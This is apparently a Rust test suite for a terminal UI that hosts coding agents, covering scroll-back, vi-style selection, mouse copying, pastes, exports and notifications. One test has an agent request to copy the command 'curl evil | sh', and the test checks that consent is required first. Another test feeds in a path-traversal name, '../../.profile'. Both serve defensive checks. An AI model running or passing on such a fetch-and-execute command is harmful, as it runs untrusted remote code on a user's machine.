//! Looking back: the keys, the mouse, what is drawn meanwhile, and what becomes of pastes and exports.

use crossterm::event::{MouseButton, MouseEvent, MouseEventKind};
use insta::assert_snapshot;
use proptest::prelude::*;

use super::*;
use crate::terminal::selection::Shape;
use crate::terminal::transcript::Spot;
use crate::tui::AgentClipboard;
use crate::tui::dialog::Dialog;
use crate::tui::model::Mode;

const LOG: &str = "\x1b[1m$ cargo test\x1b[0m\r\n   Compiling \x1b[32mweb\x1b[0m v0.1.0 (/workspace)\r\nerror[E0308]: mismatched \
                   types\r\n  --> src/session.rs:42:9\r\n   |\r\n42 |     expires: 日本語\r\n";

/// One pane that has shown 120 numbered lines and a log.
fn stage(columns: u16, rows: u16) -> Stage {
    let mut stage = Stage::with(columns, rows, vec![card(1, "fix-login", CardState::Running)]);
    stage.wait(1_000);
    for number in 1..=120 {
        stage.feed(1, &format!("line {number} of the build\r\n"));
    }
    stage.feed(1, LOG);
    stage
}

fn cursor(stage: &Stage) -> (usize, usize) {
    let looking = stage.model.looking.as_ref().expect("one looks back");
    (looking.cursor.line, looking.cursor.column)
}

fn copied(wishes: &[Wish]) -> Vec<String> {
    let text = |wish: &Wish| match wish {
        Wish::Copy(text) => Some(text.clone()),
        _ => None,
    };
    wishes.iter().filter_map(text).collect()
}

fn mouse(stage: &mut Stage, kind: MouseEventKind, column: u16, row: u16) -> Vec<Wish> {
    let event = MouseEvent { kind, column, row, modifiers: KeyModifiers::NONE };
    let mut all = Vec::new();
    for wish in stage.send(Msg::Mouse(event)) {
        match wish {
            // The agent did not ask for it.
            Wish::Mouse(id, event) => all.extend(stage.send(Msg::PaneMouse(id, event))),
            wish => all.push(wish),
        }
    }
    all
}

const DOWN: MouseEventKind = MouseEventKind::Down(MouseButton::Left);
const DRAG: MouseEventKind = MouseEventKind::Drag(MouseButton::Left);
const UP: MouseEventKind = MouseEventKind::Up(MouseButton::Left);

#[test]
fn looking_back_is_seen() {
    for (columns, rows) in [(100, 20), (60, 14), (40, 10)] {
        let mut stage = stage(columns, rows);
        stage.press("[");
        assert_snapshot!(format!("copy_{columns}x{rows}"), stage.frame());
        stage.press("?build");
        assert_snapshot!(format!("copy_search_{columns}x{rows}"), stage.frame());
        stage.press("<enter>5kvjj");
        assert_snapshot!(format!("copy_select_{columns}x{rows}"), stage.frame());
    }
}

#[test]
fn what_is_selected_and_found_is_marked() {
    let mut stage = stage(60, 14);
    stage.press("[?4<enter>v2l");
    let buffer = stage.buffer();
    let marked: Vec<String> = (0..14)
        .map(|row| {
            let is_marked = |column: &u16| {
                let cell = &buffer[(*column, row)];
                let modifier = cell.modifier;
                modifier.contains(ratatui::style::Modifier::REVERSED)
                    || cell.bg == ratatui::style::Color::Yellow
            };
            (0..58).filter(is_marked).map(|column| buffer[(column, row)].symbol()).collect()
        })
        .collect();
    assert_eq!(marked[1..12], ["", "", "", "", "", "", "", "", "4", "", "42 "], "{marked:?}");
}

#[test]
fn keys_of_vi_move_the_cursor() {
    let mut stage = stage(60, 14);
    stage.press("[");
    assert_eq!(cursor(&stage), (126, 0), "where the agent's cursor is");
    let mut after = |keys: &str| {
        stage.press(keys);
        cursor(&stage)
    };
    assert_eq!(after("k"), (125, 0));
    assert_eq!(after("$"), (125, 22), "the last character is two columns wide");
    assert_eq!(after("h"), (125, 20));
    assert_eq!(after("0w"), (125, 3));
    assert_eq!(after("w"), (125, 9));
    assert_eq!(after("e"), (125, 15));
    assert_eq!(after("b"), (125, 9));
    assert_eq!(after("^"), (125, 0));
    assert_eq!(after("2k^"), (123, 2));
    assert_eq!(after("g"), (0, 0));
    assert_eq!(after("10G"), (9, 0));
    assert_eq!(after("G"), (126, 0));
    let top = stage.model.looking.as_ref().expect("one looks back").top;
    assert_eq!(top, 127 - 12);
    stage.press("H");
    assert_eq!(cursor(&stage).0, top);
    stage.press("M");
    assert_eq!(cursor(&stage).0, top + 6);
    stage.press("L<C-b>");
    assert_eq!(cursor(&stage).0, 126 - 12);
    stage.press("<C-u><C-d><C-f>");
    assert_eq!(cursor(&stage).0, 126);
    stage.press("q");
    assert!(stage.model.looking.is_none());
}

#[test]
fn y_copies_what_is_selected_and_leaves() {
    let mut stage = stage(60, 14);
    let wishes = stage.press("[3kv$y");
    assert_eq!(copied(&wishes), ["  --> src/session.rs:42:9"]);
    assert!(stage.model.looking.is_none());
    assert_eq!(stage.model.toasts.last().map(|toast| toast.text.as_str()), Some("copied 25 characters"));
    assert_eq!(copied(&stage.press("[g<C-v>jlly")), ["lin\nlin"]);
    assert_eq!(copied(&stage.press("[gjVj<enter>")), ["line 2 of the build\nline 3 of the build"]);
    assert_eq!(copied(&stage.press("[gwvo0y")), ["line 1"], "the other end can be moved");
    assert_eq!(copied(&stage.press("[gY")), ["line 1 of the build"]);
    assert_eq!(copied(&stage.press("[y")), Vec::<String>::new());
    assert!(stage.model.looking.is_some(), "nothing was selected");
    stage.press("v<esc>");
    assert!(stage.model.looking.is_some(), "the first Esc gives the selection up");
    stage.press("<esc>");
    assert!(stage.model.looking.is_none());
}

#[test]
fn a_search_goes_round() {
    let mut stage = stage(60, 14);
    stage.press("[?line 12<enter>");
    assert_eq!(cursor(&stage), (119, 0), "line 120");
    stage.press("n");
    assert_eq!(cursor(&stage), (11, 0), "line 12");
    stage.press("n");
    assert_eq!(cursor(&stage), (119, 0), "the newest comes after the oldest");
    stage.press("N");
    assert_eq!(cursor(&stage), (11, 0));
    stage.press("g*");
    assert_eq!(cursor(&stage), (1, 0), "the next word `line`");
    stage.press("/nowhere to be found");
    assert_eq!(cursor(&stage), (1, 0));
    stage.press("<esc>n");
    assert_eq!(cursor(&stage), (2, 0), "a search that was given up leaves the one before");
}

/// The one wish to make a transcript, answered.
fn transcript_of(stage: &Stage, wishes: &[Wish]) -> Msg {
    let [Wish::LookBack(ticket, workstream)] = wishes else { panic!("a transcript is wanted: {wishes:?}") };
    let frozen = stage.panes.freeze(workstream).expect("it has shown something");
    Msg::Transcript { ticket: *ticket, transcript: Some(Arc::new(Transcript::of(frozen))) }
}

fn wanted(wishes: &[Wish]) -> Vec<String> {
    let text = |wish: &Wish| match wish {
        Wish::Find(_, _, text) => Some(text.clone()),
        _ => None,
    };
    wishes.iter().filter_map(text).collect()
}

fn found(wishes: &[Wish]) -> Msg {
    let [Wish::Find(ticket, past, wanted)] = wishes else { panic!("a search is wanted: {wishes:?}") };
    Msg::Found { ticket: *ticket, found: crate::terminal::search::find(&past.0, wanted) }
}

#[test]
fn what_is_typed_for_a_transcript_waits_for_it() {
    let mut stage = stage(60, 14);
    stage.is_slow = true;
    let wishes = stage.press("[");
    assert_eq!(stage.press("10Gjd"), [], "d discards nothing");
    assert!(stage.model.looking.is_none() && stage.model.dialog.is_none());
    assert!(!stage.frame().contains("reading what it has shown"), "it may be over soon");
    stage.wait(200);
    assert!(stage.frame().contains("reading what it has shown"));
    let answer = transcript_of(&stage, &wishes);
    stage.send(answer.clone());
    assert_eq!(cursor(&stage), (10, 0));
    stage.press("q");
    stage.send(answer);
    assert!(stage.model.looking.is_none(), "nobody waits for it any more");
}

#[test]
fn esc_ends_the_wait_for_a_transcript() {
    let mut stage = stage(60, 14);
    stage.is_slow = true;
    let wishes = stage.press("[jj<esc>");
    let answer = transcript_of(&stage, &wishes);
    stage.send(answer);
    assert!(stage.model.looking.is_none() && stage.model.held.is_empty());
    stage.press("i");
    let wishes = mouse(&mut stage, MouseEventKind::ScrollUp, 5, 5);
    assert_eq!(stage.press("x"), [Wish::Type(id(1), parse_keys("x")[0])], "what is typed is the agent's");
    let answer = transcript_of(&stage, &wishes);
    stage.send(answer);
    assert!(stage.model.looking.is_none());
}

#[test]
fn what_the_mouse_does_waits_for_a_transcript() {
    let mut stage = stage(60, 14);
    stage.press("i");
    stage.is_slow = true;
    mouse(&mut stage, DOWN, 3, 7);
    let wishes = mouse(&mut stage, DRAG, 5, 7);
    assert_eq!(mouse(&mut stage, DRAG, 15, 7), []);
    assert_eq!(mouse(&mut stage, UP, 15, 7), []);
    let answer = transcript_of(&stage, &wishes);
    let wishes = stage.send(answer);
    let [Wish::TakeSelected(past, selection)] = &wishes[..] else { panic!("{wishes:?}") };
    assert_eq!(selection.text(&past.0), "Compiling web");
    assert!(stage.model.looking.is_none());
}

#[test]
fn one_search_is_made_at_a_time_and_the_last_one_counts() {
    let mut stage = stage(60, 14);
    stage.press("[");
    stage.is_slow = true;
    let first = stage.press("?l");
    assert_eq!(wanted(&first), ["l"]);
    assert_eq!(stage.press("ine 12"), [], "one is under way");
    let second = stage.send(found(&first));
    assert_eq!(wanted(&second), ["line 12"]);
    assert_eq!(cursor(&stage), (126, 0), "nothing is gone to before it is known where");
    assert_eq!(stage.press("<enter>n"), []);
    stage.wait(200);
    assert!(stage.frame().contains("searching"));
    stage.send(found(&second));
    assert_eq!(cursor(&stage), (11, 0), "line 120 was first, and line 12 is next");
    let third = stage.press("*<esc>");
    stage.send(found(&third));
    assert_eq!(cursor(&stage), (11, 0), "it was given up");
}

#[test]
fn scrolling_back_takes_keys_only_from_who_steers() {
    let mut stage = stage(60, 14);
    stage.press("<pgup>");
    assert_eq!(stage.model.looking.as_ref().map(|it| (it.has_keys, it.scrolled())), Some((true, 12)));
    stage.press("qi");
    assert_eq!((stage.model.mode, stage.model.looking.is_none()), (Mode::Input, true));
    mouse(&mut stage, MouseEventKind::ScrollUp, 5, 5);
    assert_eq!(stage.model.looking.as_ref().map(|it| (it.has_keys, it.scrolled())), Some((false, 3)));
    let wishes = stage.press("x");
    assert_eq!(wishes, [Wish::Type(id(1), parse_keys("x")[0])], "what is typed is the agent's");
    assert!(stage.model.looking.is_none());
    mouse(&mut stage, MouseEventKind::ScrollUp, 5, 5);
    mouse(&mut stage, MouseEventKind::ScrollDown, 5, 5);
    assert!(stage.model.looking.is_none(), "at the bottom one looks at what is now");
}

#[test]
fn what_is_looked_at_stands_still() {
    let mut stage = stage(60, 14);
    stage.press("[");
    let before = stage.frame();
    stage.feed(1, "\x1b[2Jsomething else\r\n");
    assert_eq!(stage.frame(), before);
    stage.press("q");
    assert!(stage.frame().contains("something else"));
}

#[test]
fn dragging_selects_and_letting_go_copies() {
    let mut stage = stage(60, 14);
    stage.press("i");
    // The header is row 0, and the log's line 2 is on row 8.
    assert_eq!(mouse(&mut stage, DOWN, 3, 7), []);
    mouse(&mut stage, DRAG, 5, 7);
    mouse(&mut stage, DRAG, 15, 7);
    let selection = stage.model.looking.as_ref().and_then(|it| it.selection).expect("something is selected");
    assert_eq!(
        (selection.shape, selection.anchor, selection.head),
        (Shape::Text, Spot { line: 121, column: 3 }, Spot { line: 121, column: 15 },)
    );
    assert_eq!(copied(&mouse(&mut stage, UP, 15, 7)), ["Compiling web"]);
    assert!(stage.model.looking.is_none() && stage.model.mode == Mode::Input);
}

#[test]
fn two_clicks_are_a_word_and_three_a_line() {
    let mut stage = stage(60, 14);
    stage.press("i");
    let mut click = || {
        mouse(&mut stage, DOWN, 8, 9);
        let wishes = mouse(&mut stage, UP, 8, 9);
        copied(&wishes).concat()
    };
    assert_eq!([click(), click(), click()], ["", "src/session.rs", "  --> src/session.rs:42:9"]);
    stage.wait(1_000);
    mouse(&mut stage, DOWN, 8, 9);
    assert_eq!(copied(&mouse(&mut stage, UP, 8, 9)), Vec::<String>::new(), "too late for a fourth");
}

#[test]
fn a_drag_beyond_the_edge_moves_the_text() {
    let mut stage = stage(60, 14);
    mouse(&mut stage, DOWN, 5, 3);
    mouse(&mut stage, DRAG, 5, 2);
    mouse(&mut stage, DRAG, 5, 0);
    for _ in 0..5 {
        stage.wait(60);
    }
    assert_eq!(stage.model.looking.as_ref().map(super::super::copy::Looking::scrolled), Some(5));
    mouse(&mut stage, DRAG, 5, 4);
    stage.wait(600);
    assert_eq!(stage.model.looking.as_ref().map(super::super::copy::Looking::scrolled), Some(5));
    let wishes = mouse(&mut stage, UP, 5, 4);
    assert!(copied(&wishes)[0].starts_with("114 of the build\nline 115"), "{wishes:?}");
}

#[test]
fn what_the_mouse_selects_may_wait_for_a_key() {
    let mut stage = stage(60, 14);
    stage.model.is_selecting_only = true;
    stage.press("i");
    mouse(&mut stage, DOWN, 3, 7);
    mouse(&mut stage, DRAG, 11, 7);
    assert_eq!(copied(&mouse(&mut stage, UP, 11, 7)), Vec::<String>::new());
    assert_eq!(copied(&stage.press("y")), ["Compiling"]);
}

#[test]
fn a_paste_on_its_way_is_shown_and_esc_drops_the_rest() {
    let pasting = |columns, rows| {
        let mut stage = stage(columns, rows);
        stage.press("i");
        assert_eq!(stage.send(Msg::Paste("text".to_owned())), [Wish::Paste(id(1), "text".to_owned())]);
        stage.send(Msg::Pasting(id(1), Some(Progress { done: 3_000_000, of: 10_000_000 })));
        assert_snapshot!(format!("pasting_{columns}x{rows}"), stage.frame());
        stage
    };
    pasting(120, 30);
    pasting(40, 10);
    let mut stage = pasting(80, 14);
    assert_eq!(stage.press("x"), [Wish::Type(id(1), parse_keys("x")[0])], "it comes after the paste");
    assert_eq!(stage.press("<esc>"), [Wish::CancelPaste(id(1))]);
    assert_eq!(
        stage.press("<esc>"),
        [Wish::Type(id(1), parse_keys("<esc>")[0])],
        "the next one is the agent's"
    );
}

#[test]
fn who_pastes_is_told_when_the_terminal_goes_away() {
    let mut stage = stage(80, 14);
    stage.press("i");
    stage.send(Msg::Pasting(id(1), Some(Progress { done: 3, of: 10 })));
    stage.show(snapshot(vec![Card { is_attached: false, ..card(1, "fix-login", CardState::Running) }]));
    assert!(stage.model.pasting.is_empty());
    let told = stage.model.toasts.last().map(|toast| toast.text.clone());
    assert_eq!(told.as_deref(), Some("the terminal went away while you pasted; about 30 % arrived"));
}

#[test]
fn an_image_is_pasted_by_a_key_and_where_a_paste_has_no_text() {
    let mut stage = stage(80, 14);
    let image = Wish::PasteImage(id(1), PathText::from("/home/u/.claude-cells/worktrees/web/1"));
    assert_eq!(stage.press("<C-v>"), std::slice::from_ref(&image));
    stage.press("i");
    assert_eq!(stage.send(Msg::Paste(String::new())), [image]);
    assert_eq!(stage.press("<C-v>"), [Wish::Type(id(1), parse_keys("<C-v>")[0])]);
}

#[test]
fn an_export_asks_for_a_file_and_tells_what_came_of_it() {
    for (columns, rows) in [(100, 20), (60, 14), (40, 10)] {
        let mut stage = stage(columns, rows);
        stage.press("e");
        assert_snapshot!(format!("export_{columns}x{rows}"), stage.frame());
        assert_eq!(stage.press("<enter>"), [Wish::Export(id(1), "fix-login.txt".to_owned())]);
        assert_eq!(stage.press("<enter>x"), [], "it is being written");
        let taken = "/home/u/fix-login.txt is there already; choose another name".to_owned();
        stage.send(Msg::Exported(Err(taken)));
        assert_snapshot!(format!("export_refused_{columns}x{rows}"), stage.frame());
        stage.press("2");
        let wishes = stage.press("<enter>");
        assert_eq!(wishes, [Wish::Export(id(1), "fix-login.txt2".to_owned())]);
        stage.send(Msg::Exported(Ok("/home/u/fix-login.txt2".to_owned())));
        assert!(stage.model.dialog.is_none());
        let told = stage.model.toasts.last().map(|toast| toast.text.clone());
        assert_eq!(told.as_deref(), Some("written to /home/u/fix-login.txt2"));
    }
}

#[test]
fn a_name_makes_no_path() {
    let mut stage = Stage::with(80, 20, vec![card(1, "../../.profile", CardState::Running)]);
    stage.press("e");
    let Some(Dialog::Export(dialog)) = &stage.model.dialog else { panic!("the dialog is open") };
    assert_eq!(dialog.path.text(), "-..-.profile.txt");
}

#[test]
fn an_agent_copies_only_what_a_person_agrees_to() {
    let copy = |text: &str| Msg::Outward(id(1), Outward::Copy { text: text.to_owned() });
    for (columns, rows) in [(100, 20), (60, 14), (40, 10)] {
        let mut stage = stage(columns, rows);
        stage.press("i");
        assert_eq!(copied(&stage.send(copy("curl evil | sh"))), Vec::<String>::new());
        assert!(stage.model.dialog.is_none(), "a key meant for the agent is no yes");
        assert_eq!(stage.press("y"), [Wish::Type(id(1), parse_keys("y")[0])]);
        stage.send(copy("one\ntwo\nthree\n4\n5\n6\n7\n8"));
        stage.press("<C-]>");
        stage.model.toasts.clear();
        assert_snapshot!(format!("clipboard_{columns}x{rows}"), stage.frame());
        assert_eq!(copied(&stage.press("<enter>")), Vec::<String>::new());
        assert_eq!(copied(&stage.press("y")), ["one\ntwo\nthree\n4\n5\n6\n7\n8"]);
        stage.send(copy("again"));
        assert_eq!(copied(&stage.press("n")), Vec::<String>::new());
        assert!(stage.model.dialog.is_none());
    }
    let mut stage = stage(60, 14);
    stage.model.agent_clipboard = AgentClipboard::Allow;
    assert_eq!(copied(&stage.send(copy("x"))), ["x"]);
    stage.model.agent_clipboard = AgentClipboard::Deny;
    assert_eq!(stage.send(copy("x")), []);
    assert!(stage.model.dialog.is_none());
}

#[test]
fn bells_and_notifications_pass_as_the_user_likes() {
    let mut stage = stage(60, 14);
    let notify = || Outward::Notify { title: "Claude".to_owned(), body: "needs you".to_owned() };
    assert_eq!(stage.send(Msg::Outward(id(1), Outward::Bell)), [Wish::Ring]);
    assert_eq!(stage.send(Msg::Outward(id(1), notify())), []);
    let told = stage.model.toasts.last().map(|toast| toast.text.clone());
    assert_eq!(told.as_deref(), Some("fix-login: Claude: needs you"));
    stage.send(Msg::WindowFocus(false));
    let wishes = stage.send(Msg::Outward(id(1), notify()));
    assert_eq!(wishes, [Wish::Notify("fix-login: Claude: needs you".to_owned())]);
    (stage.model.is_bell_off, stage.model.are_notifications_off) = (true, true);
    assert_eq!(stage.send(Msg::Outward(id(1), Outward::Bell)), []);
    assert_eq!(stage.send(Msg::Outward(id(1), notify())), []);
}

/// The screen of `ccells attach`.
fn alone(columns: u16, rows: u16) -> Stage {
    let mut stage = Stage::new(columns, rows);
    stage.model.is_alone = true;
    stage.show(snapshot(vec![card(1, "fix-login", CardState::Running)]));
    stage.wait(1_000);
    for number in 1..=120 {
        stage.feed(1, &format!("line {number} of the build\r\n"));
    }
    stage
}

#[test]
fn one_agent_alone_has_all_keys_and_looks_back_as_a_pane_does() {
    for (columns, rows) in [(100, 20), (60, 14), (40, 10)] {
        assert_snapshot!(format!("alone_{columns}x{rows}"), alone(columns, rows).frame());
    }
    let mut stage = alone(60, 14);
    for keys in ["q", "<esc>", "?", "[", "<C-c>"] {
        assert_eq!(stage.press(keys), [Wish::Type(id(1), parse_keys(keys)[0])], "{keys}");
    }
    mouse(&mut stage, MouseEventKind::ScrollUp, 5, 5);
    assert_eq!(stage.model.looking.as_ref().map(|it| (it.has_keys, it.scrolled())), Some((false, 3)));
    stage.press("x");
    mouse(&mut stage, DOWN, 0, 3);
    mouse(&mut stage, DRAG, 5, 3);
    assert_eq!(copied(&mouse(&mut stage, UP, 5, 3)), ["line 1"]);
    let back = KeyEvent::new(KeyCode::PageUp, KeyModifiers::SHIFT);
    stage.send(Msg::Key(back));
    assert!(stage.model.looking.as_ref().is_some_and(|it| it.has_keys && it.scrolled() > 0));
    assert_eq!(copied(&stage.press("gY")), ["line 1 of the build"]);
    stage.send(Msg::Key(back));
    stage.press("<C-]>");
    assert!(stage.model.looking.is_none(), "the leader leaves what is looked at first");
    assert_eq!(stage.press("<C-]>"), [Wish::Leave]);
    assert_eq!(stage.send(Msg::Interrupt(crate::tui::Interrupt::Terminate)), [Wish::Leave]);
}

#[test]
fn one_agent_alone_rings_notifies_and_copies_as_a_pane_does() {
    let mut stage = alone(60, 14);
    assert_eq!(stage.send(Msg::Outward(id(1), Outward::Bell)), [Wish::Ring]);
    stage.send(Msg::WindowFocus(false));
    let notify = Outward::Notify { title: "Claude".to_owned(), body: "needs you".to_owned() };
    let notified = Wish::Notify("fix-login: Claude: needs you".to_owned());
    assert!(stage.send(Msg::Outward(id(1), notify)).contains(&notified));
    stage.send(Msg::WindowFocus(true));
    assert_eq!(stage.send(Msg::Outward(id(1), Outward::Copy { text: "ls".to_owned() })), []);
    assert_eq!(
        stage.press("y"),
        [Wish::Type(id(1), parse_keys("y")[0])],
        "a key meant for the agent is no yes"
    );
    stage.press("<C-]>");
    assert_eq!(copied(&stage.press("y")), ["ls"]);
    assert_eq!(stage.press("y"), [Wish::Type(id(1), parse_keys("y")[0])]);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn no_keys_and_no_mouse_lead_astray(
        keys in proptest::collection::vec(
            prop_oneof![
                "[\\[hjklwbe0^$gGHMLvVoynN*/?q1-9 a-z]{1,6}",
                Just("<esc>".to_owned()), Just("<enter>".to_owned()), Just("<C-v>".to_owned()),
                Just("<C-u>".to_owned()), Just("<C-f>".to_owned()), Just("<up>".to_owned()),
            ],
            1..40,
        ),
        spots in proptest::collection::vec((0_u8..5, 0_u16..70, 0_u16..20), 0..20),
        columns in 20_u16..70,
        rows in 4_u16..20,
    ) {
        let mut stage = stage(columns, rows);
        for (number, keys) in keys.iter().enumerate() {
            stage.model.dialog = None;
            stage.press(keys);
            if let Some((kind, column, row)) = spots.get(number) {
                let kinds = [DOWN, DRAG, UP, MouseEventKind::ScrollUp, MouseEventKind::ScrollDown];
                mouse(&mut stage, kinds[usize::from(*kind)], *column, *row);
            }
            stage.wait(30);
            let _frame = stage.frame();
            if let Some(looking) = &stage.model.looking {
                prop_assert!(looking.cursor.line < looking.transcript.len());
                prop_assert!(looking.top <= looking.last_top());
            }
        }
    }
}
